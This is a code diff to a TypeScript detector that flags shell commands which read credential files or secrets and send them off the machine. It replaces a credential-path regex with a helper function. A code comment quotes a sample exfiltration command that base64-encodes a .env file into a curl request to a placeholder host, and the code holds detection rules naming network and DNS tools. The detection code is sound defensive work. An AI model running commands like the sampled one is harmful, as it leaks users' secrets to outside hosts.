@@ -6,9 +6,9 @@ import { isIP } from 'node:net';
 import { isPrivateAddress } from '../core/addresses.js';
 import { EXFIL_HOST_PATTERN } from './rules.js';
 import {
-  CREDENTIAL_PATH,
   DNS_TOOLS,
   finding,
+  namesCredentialPath,
   printsEnvironment,
   SENDERS,
   SENSITIVE_DATA,
@@ -76,7 +76,7 @@ export function checkExfiltration(
     const redirectedIn = command.redirects.some(
       (redirect) =>
         (redirect.operator === '<' || redirect.operator === '<>') &&
-        (SENSITIVE_DATA.test(redirect.target) || CREDENTIAL_PATH.test(redirect.target)),
+        (SENSITIVE_DATA.test(redirect.target) || namesCredentialPath(redirect.target)),
     );
     // Private data read in a command substitution, as in `curl "https://x/?d=$(base64 .env)"`.
     const substitutedData =
@@ -84,7 +84,7 @@ export function checkExfiltration(
       parsed.commands.some(
         (other) =>
           other.via.includes('$()') &&
-          (SENSITIVE_DATA.test(other.argv.join(' ')) || CREDENTIAL_PATH.test(other.argv.join(' '))),
+          (SENSITIVE_DATA.test(other.argv.join(' ')) || namesCredentialPath(other.argv.join(' '))),
       );
     const sendsData =
       redirectedIn ||
@@ -118,7 +118,7 @@ export function checkExfiltration(
     const sensitive =
       homeData ||
       SENSITIVE_DATA.test(text) ||
-      CREDENTIAL_PATH.test(text) ||
+      namesCredentialPath(text) ||
       pipedData ||
       substitutedData ||
       redirectedIn;
@@ -147,7 +147,8 @@ export function checkExfiltration(
       'exfil-host',
     );
   }
-  if (readsCredentials(parsed) && sendsOffHost(parsed)) {
+  // The cheaper test runs first, because most command lines send nothing off the machine.
+  if (sendsOffHost(parsed) && readsCredentials(parsed)) {
     return finding(
       'data-exfiltration',
       'The command line reads credential files and also sends data to another host',
@@ -185,7 +186,7 @@ function postsSecretFile(command: SimpleCommand): boolean {
     .filter((_arg, index) => FILE_OPTIONS.has(command.argv[index - 1] ?? ''))
     .map((value) => value.replace(/^[\w-]+=@?/, ''));
   return [...substituted, ...files].some(
-    (source) => SENSITIVE_DATA.test(` ${source}`) || CREDENTIAL_PATH.test(source),
+    (source) => SENSITIVE_DATA.test(` ${source}`) || namesCredentialPath(source),
   );
 }
 
@@ -220,7 +221,7 @@ const RAW_IP_OR_EXFIL_HOST = /(?:[a-z]+:\/\/|['"@])(?:\d{1,3}\.){3}\d{1,3}\b/;
 /** Checks inline interpreter code for network calls that carry private data, and for credential reads. */
 function checkInlineCode(parsed: ParsedShell): Finding | undefined {
   for (const { code } of parsed.inlineCode) {
-    const credentials = CREDENTIAL_PATH.test(code);
+    const credentials = namesCredentialPath(code);
     if (NETWORK_CODE.test(code) && (credentials || SENSITIVE_DATA.test(code))) {
       return finding(
         'data-exfiltration',
@@ -253,8 +254,8 @@ function checkInlineCode(parsed: ParsedShell): Finding | undefined {
 function readsCredentials(parsed: ParsedShell): boolean {
   return parsed.commands.some(
     (command) =>
-      command.argv.slice(1).some((arg) => CREDENTIAL_PATH.test(arg)) ||
-      command.redirects.some((redirect) => CREDENTIAL_PATH.test(redirect.target)),
+      command.argv.slice(1).some((arg) => namesCredentialPath(arg)) ||
+      command.redirects.some((redirect) => namesCredentialPath(redirect.target)),
   );
 }
 
@@ -428,9 +429,12 @@ function namesHost(messages: string, host: string): boolean {
 /** Checks whether any command talks to a host other than this machine. */
 function sendsOffHost(parsed: ParsedShell): boolean {
   return parsed.commands.some((command) => {
-    const text = command.argv.join(' ');
     const network =
       SENDERS.has(command.name) || DNS_TOOLS.has(command.name) || command.name === 'ssh';
-    return network && !/localhost|127\.0\.0\.1|::1/.test(text) && command.argv.length > 1;
+    return (
+      network &&
+      command.argv.length > 1 &&
+      !/localhost|127\.0\.0\.1|::1/.test(command.argv.join(' '))
+    );
   });
 }
